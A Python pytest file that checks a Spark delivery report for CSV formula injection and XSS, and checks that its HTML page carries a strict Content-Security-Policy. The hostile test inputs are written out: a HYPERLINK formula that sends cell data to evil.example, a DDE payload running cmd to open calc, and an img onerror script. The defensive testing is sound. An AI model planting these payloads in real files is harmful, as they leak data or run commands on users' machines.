"""Review from the seat of whoever consumes `pushgw spark run delivery-report`: an analyst
opening summary.csv / reasons.csv / hourly.csv in a spreadsheet or pandas, a dashboard
reading the Parquet with pyarrow, a manager opening index.html from an e-mail.

One run of the report over receipts written by the real receipts writer, whose app ids,
plugin names and provider reasons are spreadsheet formulas (every receipt field is
untrusted: a provider's reason can say anything), and one over an empty directory, both
in the test session's SparkSession.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from gateway.core.push import Outcome, ProviderKind
from spark_plugins import runner, synthetic
from spark_plugins.delivery_report import JOB as REPORT
from tests.spark.conftest import (
    START,
    receipt,
    spark,  # noqa: F401 (the session's SparkSession)
)

pytestmark = pytest.mark.spark

TABLES = ("summary", "reasons", "hourly")
TEXT_COLUMNS = {"plugin", "provider", "app_id", "status", "reason"}
# What Excel, LibreOffice and Google Sheets evaluate: =, +, - or @ first, once leading
# whitespace is skipped.
FORMULA = re.compile(r"^\s*[=+\-@]")

HYPERLINK_APP = '=HYPERLINK("http://evil.example/?"&A1,"open")'
AT_APP = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_PLUGIN = "+plugin"
MINUS_REASON = '-2+3,"q"\nline 2'
TAB_REASON = "\t=1+1"
SPACE_REASON = "  @x"
PLAIN_REASON = "Bad-Device=Token@x"  # formula characters inside a value: left alone
XSS_APP = "<img src=x onerror=alert(1)>"


def _receipts() -> list[Any]:
    return [
        receipt(START, Outcome.OK, token="a", app_id=HYPERLINK_APP),
        receipt(START + 60, Outcome.TRANSIENT, token="b", app_id=AT_APP, reason=MINUS_REASON),
        receipt(
            START + 120,
            Outcome.TRANSIENT,
            token="c",
            plugin=PLUS_PLUGIN,
            app_id="x",
            provider=ProviderKind.FCM,
            reason=TAB_REASON,
        ),
        receipt(START + 3600, Outcome.TOKEN_INVALID, token="d", app_id="x", reason=SPACE_REASON),
        receipt(START + 3660, Outcome.TRANSIENT, token="e", app_id=XSS_APP, reason=PLAIN_REASON),
    ]


@pytest.fixture(scope="module")
def outputs(spark: Any, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:  # noqa: F811
    base = tmp_path_factory.mktemp("report-consumer")
    receipts, no_receipts = base / "receipts", base / "no-receipts"
    no_receipts.mkdir()
    synthetic.write_with_receipt_writer(_receipts(), receipts)
    runs = {"out": receipts, "empty": no_receipts}
    for name, source in runs.items():
        status, _ = runner.run_jobs([REPORT], str(source), str(base / name), stop=False)
        assert status == 0, name
    return {name: base / name for name in runs}


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_never_start_a_spreadsheet_formula(outputs: dict[str, Path]) -> None:
    """A hostile app id, plugin name or provider reason opened in a spreadsheet is text,
    not a formula that calls out or runs a command; Parquet keeps every value as it is."""
    import pyarrow.parquet as pq

    out = outputs["out"]
    for table in TABLES:
        for row in _csv(out / f"{table}.csv"):
            for column in TEXT_COLUMNS & row.keys():
                assert not FORMULA.match(row[column]), (table, column, row[column])
    reasons = _csv(out / "reasons.csv")
    assert {r["reason"] for r in reasons} >= {
        "'" + MINUS_REASON,
        "'" + TAB_REASON,
        "'" + SPACE_REASON,
        PLAIN_REASON,
    }
    summary = _csv(out / "summary.csv")
    assert {r["app_id"] for r in summary} == {"'" + HYPERLINK_APP, "'" + AT_APP, "x", XSS_APP}
    assert "'" + PLUS_PLUGIN in {r["plugin"] for r in summary}
    parquet = pq.read_table(out / "reasons.parquet").to_pylist()
    assert {r["reason"] for r in parquet} == {
        None,
        MINUS_REASON,
        TAB_REASON,
        SPACE_REASON,
        PLAIN_REASON,
    }
    assert {r["app_id"] for r in pq.read_table(out / "summary.parquet").to_pylist()} == {
        HYPERLINK_APP,
        AT_APP,
        "x",
        XSS_APP,
    }


def test_both_csv_writers_neutralise_the_same_values(spark: Any, tmp_path: Path) -> None:  # noqa: F811
    """The driver (collected tables) and Spark (the others) agree byte for byte on which
    text gets a `'`, and numbers, negative ones too, are never touched."""
    from spark_plugins.output import write_table

    texts = [
        "=1+1",
        "+1",
        "-1",
        "@x",
        "\t=1",
        " \r\n-x",
        "\u000b@x",
        "\ttab",
        " spaced ",
        "a=b",
        "'=quoted already",
        None,
    ]
    rows = [(i, -i - 0.5, text) for i, text in enumerate(texts)]
    df = spark.createDataFrame(rows, "id LONG, delta DOUBLE, app STRING").selectExpr(
        "-id AS id", "delta", "app"
    )
    driver, _ = write_table(df, str(tmp_path / "driver"), "t", ["id"], collect=True)
    by_spark, _ = write_table(df, str(tmp_path / "spark"), "t", ["id"])
    written = Path(driver["t.csv"]).read_bytes()
    assert written == Path(by_spark["t.csv"]).read_bytes()
    read = list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]
    inert = {"=1+1", "+1", "-1", "@x", "\t=1", " \r\n-x", "\u000b@x"}
    want = {str(-i): ("'" + t if t in inert else (t or "")) for i, t in enumerate(texts)}
    assert {r[0]: r[2] for r in read} == want
    assert {r[1] for r in read} == {repr(-i - 0.5) for i in range(len(texts))}


class _Meta(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.policies: list[str] = []
        self.in_head = True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        if tag == "body":
            self.in_head = False
        elif tag == "meta" and (named.get("http-equiv") or "").lower() == (
            "content-security-policy"
        ):
            assert self.in_head  # a policy in the body is ignored by browsers
            self.policies.append(named.get("content") or "")


@pytest.mark.parametrize("run", ["out", "empty"])
def test_page_tells_the_browser_it_runs_no_script_and_loads_nothing(
    outputs: dict[str, Path], run: str
) -> None:
    """The page opened from an e-mail: besides escaping every value, it declares that
    nothing may run or be fetched, so a value that ever slipped through stays inert."""
    page = (outputs[run] / "index.html").read_text()
    assert XSS_APP not in page
    parser = _Meta()
    parser.feed(page)
    (policy,) = parser.policies
    directives = {d.split()[0]: d.split()[1:] for d in (p.strip() for p in policy.split(";")) if d}
    assert directives["default-src"] == ["'none'"]  # scripts, fonts, frames, fetches
    assert "script-src" not in directives and "connect-src" not in directives
    assert directives["img-src"] == ["data:"]  # the embedded chart only
    assert directives["style-src"] == ["'unsafe-inline'"]
    assert directives["base-uri"] == ["'none'"] and directives["form-action"] == ["'none'"]


def _documented_columns() -> dict[str, list[str]]:
    doc = (Path(__file__).parent.parent / "docs" / "spark.md").read_text()
    found: dict[str, list[str]] = {}
    for table in TABLES:
        row = re.search(rf"^\| `{table}\.parquet/`, `{table}\.csv` \| `([^`]+)`", doc, re.M)
        assert row, f"docs/spark.md lists no columns for {table}"
        found[table] = [c.strip() for c in row.group(1).split(",")]
    return found


@pytest.mark.parametrize("run", ["out", "empty"])
def test_documented_columns_and_types_are_the_written_ones(
    outputs: dict[str, Path], run: str
) -> None:
    """Every table's columns are listed in docs/spark.md in the order CSV and Parquet
    have them, with the documented types, also for a run over no receipts."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    for table, columns in _documented_columns().items():
        with (outputs[run] / f"{table}.csv").open(newline="") as fh:
            assert next(csv.reader(fh)) == columns, table
        schema = pq.read_table(outputs[run] / f"{table}.parquet").schema
        assert schema.names == columns, table
        for field in schema:
            if field.name == "hour":
                want = pa.timestamp("us", tz="UTC")
            elif field.name in TEXT_COLUMNS:
                want = pa.string()
            elif field.name == "success_rate" or field.name.startswith("latency_"):
                want = pa.float64()
            else:
                want = pa.int64()
            assert field.type == want, (table, field)
